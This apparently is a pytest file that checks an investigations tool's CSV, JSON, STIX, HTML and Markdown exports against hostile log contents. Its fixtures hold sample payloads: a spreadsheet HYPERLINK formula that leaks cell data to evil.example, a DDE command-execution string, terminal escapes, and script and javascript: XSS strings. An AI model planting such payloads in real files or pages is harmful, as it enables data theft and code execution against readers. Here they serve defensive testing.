"""Exports of a case whose logs (and pasted notes) carry attacks on whoever opens the file.

User agents hold spreadsheet formulas and terminal escapes, an error message holds a script tag
and table pipes, a session name holds Rich markup, and a finding title pasted from the logs holds
an HTML payload and a ``javascript:`` link. Each output is parsed the way its reader would parse
it (csv module, an HTML parser, a Markdown renderer) and checked for anything that became live.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import orjson
import pytest
from markdown_it import MarkdownIt

from investigations import casefile as cf
from investigations.case import Case
from investigations.evidence import SourceOptions, ingest_sources
from investigations.export import FORMATS, export
from investigations.simulate import write_jsonl
from tests.engine.test_case_scenario import ATTACKER_IP, Scenario, build

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPE = "\x1b]0;pwn\x07"
SCRIPT = "<script>alert(1)</script> | pipe"
MARKUP = "ops|[bold red]x[/]"
TITLE = "<img src=x onerror=alert(1)> | [link](javascript:alert(1)) `tick`"
NARRATIVE = "# not a heading\n```\n</div><script>alert(2)</script>\n| a | b |"
AGENTS = ["+cmd", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", ESCAPE]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Scenario:
    folder = tmp_path_factory.mktemp("hostile")
    world = build(folder, alice_agent=FORMULA, session_name=MARKUP)
    records = [dict(r) for r in world.records]
    records[4] = {**records[4], "errorCode": "AccessDenied", "errorMessage": SCRIPT}
    extra = [{**records[0], "eventID": f"ua-{i}", "userAgent": agent} for i, agent in enumerate(AGENTS)]
    write_jsonl(records + extra, world.path)
    return world


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory, hostile: Scenario) -> Iterator[Case]:
    with Case.open(tmp_path_factory.mktemp("cases") / "hostile") as opened:
        ingest_sources(opened, [str(hostile.path)], SourceOptions(workers=0))
        cf.add_finding(
            opened,
            TITLE,
            "high",
            technique="T1078.004",
            narrative=NARRATIVE,
            event_ids=[hostile.event_id(i) for i in range(6)],
            entities=[("access_key", hostile.alice_key), ("user_agent", FORMULA)],
        )
        cf.add_ioc(opened, "user_agent", FORMULA, note=SCRIPT)
        cf.add_ioc(opened, "access_key", hostile.alice_key)
        cf.add_ioc(opened, "user_agent", ESCAPE)
        cf.add_tag(opened, ("ip", ATTACKER_IP), "=cmd|' /C calc'!A0")
        cf.add_bookmark(opened, hostile.event_id(4), MARKUP)
        yield opened


@pytest.fixture(scope="module")
def outputs(case: Case) -> dict[str, Path]:
    return {
        fmt: Path(export(case, fmt, out=case.root / "out" / f"x{spec.suffix}").path) for fmt, spec in FORMATS.items()
    }


def test_no_terminal_control_bytes_reach_any_file(outputs: dict[str, Path]) -> None:
    for fmt, path in outputs.items():
        data = path.read_bytes()
        assert b"\x1b" not in data and b"\x07" not in data, fmt


def test_csv_cells_never_start_a_formula(outputs: dict[str, Path]) -> None:
    for fmt in ("csv", "iocs-csv"):
        with open(outputs[fmt], encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], fmt
    with open(outputs["csv"], encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    agents = [r["user_agent"] for r in table]
    assert "'" + FORMULA in agents
    assert {"'+cmd", "'-2+3", "'@SUM(1+1)", "'\\x09TAB", "'\\x0dCR", "\\x1b]0;pwn\\x07"} <= set(agents)
    assert {r["tags"] for r in table} >= {"'=cmd|' /C calc'!A0"}
    assert [r["error_message"] for r in table if r["error_message"]] == [SCRIPT]


def test_json_outputs_keep_the_exact_values(outputs: dict[str, Path]) -> None:
    lines = [orjson.loads(line) for line in outputs["jsonl"].read_bytes().splitlines()]
    assert {line["user_agent"] for line in lines} >= {FORMULA, ESCAPE, "\tTAB"}
    sketch = [orjson.loads(line) for line in outputs["timesketch"].read_bytes().splitlines()]
    assert any(line.get("error_message") == SCRIPT for line in sketch)
    stix = orjson.loads(outputs["stix"].read_bytes())
    patterns = [o["pattern"] for o in stix["objects"] if o["type"] == "indicator"]
    assert patterns[0] == (
        "[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = "
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")\']'
    )


class _Page(HTMLParser):
    """Records every element and attribute, and the text a browser would show."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


REPORT_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "table", "thead", "tbody"}
REPORT_TAGS |= {"tr", "th", "td", "span", "div", "ul", "li", "em", "code", "br"}


def test_html_report_shows_hostile_strings_as_text_only(outputs: dict[str, Path]) -> None:
    page = _Page()
    page.feed(outputs["html"].read_text())
    assert set(page.tags) <= REPORT_TAGS
    assert {k for k, _ in page.attrs} <= {"lang", "charset", "http-equiv", "content", "class"}
    assert not [v for _, v in page.attrs if "javascript" in v or "<" in v]
    for hostile in (TITLE, SCRIPT, FORMULA, "</div><script>alert(2)</script>", "[bold red]x[/]"):
        assert hostile in page.text
    assert "\\x1b]0;pwn\\x07" in page.text


def test_markdown_report_renders_without_live_markup(outputs: dict[str, Path]) -> None:
    text = outputs["markdown"].read_text()
    page = _Page()
    page.feed(MarkdownIt("commonmark").enable("table").render(text))
    assert {"script", "img", "a", "div", "iframe"}.isdisjoint(page.tags)
    headings = [line for line in text.splitlines() if re.match(r"#+ ", line)]
    assert "# not a heading" not in headings
    assert page.tags.count("h3") == 1 + 1  # the one finding, and the one evidence source
    for hostile in ("<img src=x onerror=alert(1)>", "[link](javascript:alert(1))", SCRIPT, FORMULA):
        assert hostile in page.text
    for table_html in re.findall(r"<table>.*?</table>", MarkdownIt("commonmark").enable("table").render(text), re.S):
        widths = {row.count("<td") for row in re.findall(r"<tr>.*?</tr>", table_html, re.S) if "<td" in row}
        assert len(widths) <= 1  # no pipe from the logs added a column


def test_mermaid_lines_are_only_quoted_labels(outputs: dict[str, Path]) -> None:
    block = outputs["markdown"].read_text().split("```mermaid\n")[1].split("```")[0]
    node = re.compile(r'^  n\d+(\[\["[^"<>`\[\]|]*"\]\]|\["[^"<>`\[\]|]*"\])$')
    edge = re.compile(r'^  n\d+ (-->|-\.->)\|"[^"<>`\[\]|]*"\| n\d+$')
    lines = block.splitlines()
    assert lines[0] == "graph TD"
    assert all(node.match(line) or edge.match(line) for line in lines[1:]), lines
    assert "ops#124;#91;bold red#93;x#91;/#93;" in block
